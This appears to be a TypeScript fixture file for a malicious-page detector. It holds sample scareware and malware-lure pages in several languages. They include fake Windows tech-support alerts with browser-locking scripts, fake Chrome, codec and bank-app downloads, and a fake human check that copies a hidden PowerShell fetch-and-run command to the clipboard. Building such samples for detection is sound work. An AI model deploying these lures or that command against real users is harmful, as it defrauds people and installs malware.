import { malicious, type ImitationPage } from './imitation-page.ts';

/** Scareware: pages that frighten people into calling a number or running a program. */
export const frights: readonly ImitationPage[] = [
  malicious(
    'windows-alert-0x80072ee7.example/Win/',
    'A locked computer and a number to call, in full screen with sound',
    'TECH_SUPPORT',
    'Microsoft',
    `<!DOCTYPE html><html><head><title>Windows Defender Security Center</title></head><body onclick="document.documentElement.requestFullscreen()"><audio autoplay loop src="beep.mp3"></audio><div class="w"><img src="defender.png" alt="Windows Defender"><h1>Access to this PC has been blocked for security reasons</h1><p>Trojan_Spyware detected. Error Code: 0x80072ee7. Do not shut down or restart your computer. Your personal data is at risk.</p><p>Call Windows Support: <b>+1 (855) 555-0142</b> (Toll Free)</p><button>Deny</button><button>Allow</button></div><script>window.onbeforeunload=function(){return 'stay'};for(let i=0;i<50;i++){history.pushState(0,0,'#'+i)}</script></body></html>`,
  ),
  malicious(
    'alerte-securite-pc.example/fr/',
    'The same in French without a brand',
    'TECH_SUPPORT',
    null,
    `<!DOCTYPE html><html lang="fr"><head><title>Alerte de sécurité</title></head><body><h1>Votre ordinateur est infecté</h1><p>Virus détecté : ne pas éteindre votre ordinateur. Vos données sont en danger.</p><p>Appelez l'assistance technique : 09 70 55 01 23</p><script>setInterval(function(){alert('Appelez maintenant')},900)</script></body></html>`,
  ),
  malicious(
    'keikoku-center.example/',
    'The same in Japanese',
    'TECH_SUPPORT',
    null,
    `<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>セキュリティ警告</title></head><body><h1>セキュリティ警告</h1><p>お使いのパソコンはトロイの木馬に感染しています。電源を切らないでください。</p><p>すぐにサポートセンターへお電話ください: 050-5555-0123</p><audio autoplay src="voice.mp3"></audio></body></html>`,
  ),
  malicious(
    'iphone-warnung.example/scan',
    'A telephone with viruses and a battery',
    'TECH_SUPPORT',
    null,
    `<!DOCTYPE html><html lang="de"><head><title>Warnung</title></head><body><h2>Virenwarnung</h2><p>Ihr Gerät ist infiziert! 13 Viren gefunden. Sicherheitswarnung: Bankdaten sind gefährdet.</p><p>Rufen Sie den technischen Support an: 0800 555 0199</p></body></html>`,
  ),
  malicious(
    'chrome-update-center.example/',
    'A browser that is out of date, and a program',
    'MALWARE',
    'Google',
    `<!DOCTYPE html><html><head><title>Update Chrome</title></head><body><img src="chrome.svg" alt="Google Chrome"><h1>Update Google Chrome</h1><p>Your browser is out of date. You are using an older version of Chrome. Update now to keep your browser running smoothly and securely.</p><a class="btn" href="/dl/ChromeSetup_v131.exe" download>Update Chrome</a></body></html>`,
  ),
  malicious(
    'hd-player-codec.example/movie',
    'A film that wants a codec',
    'MALWARE',
    null,
    `<!DOCTYPE html><html><head><title>Watch now</title></head><body><div class="player"><div class="msg">Missing codec. Install codec to play this video.</div><a href="HDVideoCodecPack.msi">Install codec</a></div></body></html>`,
  ),
  malicious(
    'verify-human-step.example/',
    'A check for humans that has one paste a command',
    'MALWARE',
    null,
    `<!DOCTYPE html><html><head><title>Just a moment...</title></head><body><h1>Verify you are human</h1><label><input type="checkbox" onclick="go()"> I'm not a robot</label><div id="steps" hidden><p>Complete these verification steps:</p><ol><li>Press Windows Key + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol></div><script>function go(){navigator.clipboard.writeText('powershell -w hidden -c "iex(irm hxxp)"');document.getElementById('steps').hidden=false}</script></body></html>`,
  ),
  malicious(
    'bank-sicherheits-app.example/dkb',
    'A bank whose app is not in any store',
    'MALWARE',
    'DKB',
    `<!DOCTYPE html><html lang="de"><head><title>DKB - Sicherheits-App</title></head><body><img src="dkb.svg" alt="DKB"><h1>DKB</h1><p>Installieren Sie die neue Sicherheits-App, um Ihr Konto zu schützen.</p><a href="/app/dkb-secure.apk">App herunterladen</a></body></html>`,
  ),
];
